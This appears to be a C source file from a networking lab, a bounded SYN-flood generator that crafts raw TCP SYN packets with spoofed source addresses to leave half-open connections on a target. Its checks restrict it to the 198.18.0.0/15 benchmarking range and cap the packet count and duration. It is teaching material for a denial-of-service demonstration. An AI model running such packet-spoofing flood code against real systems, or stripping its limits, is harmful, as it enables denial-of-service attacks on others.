/*
 * synflood.c — a bounded SYN flood for the syn-flood demo of tcplab's lab.
 *
 *   synflood --dst ADDR --port P --src-net A.B.C.0/24 [--count N] [--seconds S]
 *
 * Sends at most --count (default 200, at most 2000) TCP SYNs to ADDR:P, in
 * at most --seconds (default 2, at most 10), spread evenly over that time,
 * each from a source address of --src-net (a /24: hosts .1 to .254 in turn)
 * and a random source port and sequence number.  Nobody owns those source
 * addresses, so nobody answers the server's SYN-ACKs: each SYN leaves a
 * half-open connection (RFC 4987 §2.1).
 *
 * It is a lab helper, not a tool: both ADDR and every source address must
 * lie in 198.18.0.0/15 (RFC 2544's benchmarking range, which the lab's
 * namespaces use and which is not routed on the Internet).  Anything else
 * is refused before a socket is opened, with exit status 2.  Run it inside
 * the demo's client namespace (the namespace has no default route either).
 *
 * Prints one JSON line at the end: {"sent":N,"errors":N,"seconds":S}.
 * Exit status: 0 every SYN sent, 1 a socket error (one sentence on stderr),
 * 2 a bad or refused command line.  Needs CAP_NET_RAW.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_COUNT 2000
#define MAX_SECONDS 10.0

/* 198.18.0.0/15, host byte order */
#define LAB_NET 0xC6120000u
#define LAB_MASK 0xFFFE0000u

static bool in_lab_range(uint32_t host_order)
{
	return (host_order & LAB_MASK) == LAB_NET;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* xorshift32: source ports and sequence numbers need not be good random */
static uint32_t rnd_state;
static uint32_t rnd(void)
{
	uint32_t x = rnd_state;

	x ^= x << 13;
	x ^= x >> 17;
	x ^= x << 5;
	return rnd_state = x;
}

/* RFC 1071 Internet checksum over a buffer, starting from sum. */
static uint16_t csum(const void *buf, size_t len, uint32_t sum)
{
	const uint8_t *p = buf;

	while (len > 1) {
		sum += (uint32_t)(p[0] << 8 | p[1]);
		p += 2;
		len -= 2;
	}
	if (len)
		sum += (uint32_t)(p[0] << 8);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, (uint16_t)(v >> 16)); put16(p + 2, (uint16_t)v); }

/* Builds a 20-byte IPv4 header and a 24-byte TCP SYN (MSS 1460) in pkt. */
static size_t build_syn(uint8_t *pkt, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport,
			uint32_t seq)
{
	uint8_t *ip = pkt, *tcp = pkt + 20;
	uint8_t pseudo[12];
	uint32_t sum = 0;

	memset(pkt, 0, 44);
	ip[0] = 0x45;
	put16(ip + 2, 44);
	put16(ip + 4, (uint16_t)rnd());
	ip[8] = 64;
	ip[9] = IPPROTO_TCP;
	put32(ip + 12, src);
	put32(ip + 16, dst);
	put16(ip + 10, csum(ip, 20, 0));

	put16(tcp, sport);
	put16(tcp + 2, dport);
	put32(tcp + 4, seq);
	tcp[12] = 6 << 4;             /* data offset: 24 bytes */
	tcp[13] = 0x02;               /* SYN */
	put16(tcp + 14, 64240);
	tcp[20] = 2;                  /* MSS option, RFC 9293 §3.2 */
	tcp[21] = 4;
	put16(tcp + 22, 1460);

	put32(pseudo, src);
	put32(pseudo + 4, dst);
	pseudo[8] = 0;
	pseudo[9] = IPPROTO_TCP;
	put16(pseudo + 10, 24);
	for (int i = 0; i < 12; i += 2)
		sum += (uint32_t)(pseudo[i] << 8 | pseudo[i + 1]);
	put16(tcp + 16, csum(tcp, 24, sum));
	return 44;
}

static int usage(void)
{
	fprintf(stderr, "usage: synflood --dst ADDR --port P --src-net A.B.C.0/24 [--count N] [--seconds S]\n"
			"  ADDR and A.B.C.0/24 must lie in 198.18.0.0/15; N <= %d; S <= %.0f\n",
		MAX_COUNT, MAX_SECONDS);
	return 2;
}

int main(int argc, char **argv)
{
	const char *dst_s = NULL, *net_s = NULL;
	long port = -1, count = 200;
	double seconds = 2.0;
	struct in_addr a;
	uint32_t dst, net;
	int fd, one = 1;
	long sent = 0, errors = 0;
	double t0, dt;

	for (int i = 1; i < argc; i++) {
		const char *v = i + 1 < argc ? argv[i + 1] : NULL;
		char *end;

		if (!v)
			return usage();
		if (!strcmp(argv[i], "--dst"))
			dst_s = v;
		else if (!strcmp(argv[i], "--src-net"))
			net_s = v;
		else if (!strcmp(argv[i], "--port")) {
			port = strtol(v, &end, 10);
			if (*end || port < 1 || port > 65535)
				return usage();
		} else if (!strcmp(argv[i], "--count")) {
			count = strtol(v, &end, 10);
			if (*end || count < 1 || count > MAX_COUNT) {
				fprintf(stderr, "synflood: --count must be 1 to %d: the flood is bounded\n", MAX_COUNT);
				return 2;
			}
		} else if (!strcmp(argv[i], "--seconds")) {
			seconds = strtod(v, &end);
			if (*end || !(seconds > 0 && seconds <= MAX_SECONDS)) {
				fprintf(stderr, "synflood: --seconds must be above 0 and at most %.0f: the flood is bounded\n",
					MAX_SECONDS);
				return 2;
			}
		} else
			return usage();
		i++;
	}
	if (!dst_s || !net_s || port < 0)
		return usage();
	if (inet_pton(AF_INET, dst_s, &a) != 1)
		return usage();
	dst = ntohl(a.s_addr);
	if (!in_lab_range(dst)) {
		fprintf(stderr, "synflood: refused: %s is outside 198.18.0.0/15, the lab's address range\n", dst_s);
		return 2;
	}
	{
		char buf[32];
		size_t n = strlen(net_s);

		if (n < 4 || n >= sizeof(buf) || strcmp(net_s + n - 3, "/24"))
			return usage();
		memcpy(buf, net_s, n - 3);
		buf[n - 3] = '\0';
		if (inet_pton(AF_INET, buf, &a) != 1)
			return usage();
		net = ntohl(a.s_addr) & 0xFFFFFF00u;
		if (!in_lab_range(net)) {
			fprintf(stderr, "synflood: refused: source network %s is outside 198.18.0.0/15\n", net_s);
			return 2;
		}
	}

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) < 0) {
		fprintf(stderr, "synflood: raw socket: %s\n", strerror(errno));
		return 1;
	}
	rnd_state = (uint32_t)getpid() * 2654435761u ^ (uint32_t)time(NULL);
	if (!rnd_state)
		rnd_state = 1;
	t0 = now_s();
	dt = seconds / (double)count;
	for (long i = 0; i < count; i++) {
		uint8_t pkt[44];
		struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(dst) };
		uint32_t src = net | (uint32_t)(1 + i % 254);
		size_t len = build_syn(pkt, src, dst, (uint16_t)(1024 + rnd() % 64000), (uint16_t)port, rnd());
		double due = t0 + dt * (double)i, left;

		/* spread evenly, and never past the time bound */
		while ((left = due - now_s()) > 0) {
			struct timespec ts = { 0, (long)(left * 1e9) };
			nanosleep(&ts, NULL);
		}
		if (now_s() - t0 > seconds)
			break;
		if (sendto(fd, pkt, len, 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)len)
			sent++;
		else if (++errors == 1)
			fprintf(stderr, "synflood: sendto: %s\n", strerror(errno));
	}
	close(fd);
	printf("{\"sent\":%ld,\"errors\":%ld,\"seconds\":%.3f}\n", sent, errors, now_s() - t0);
	return errors ? 1 : 0;
}
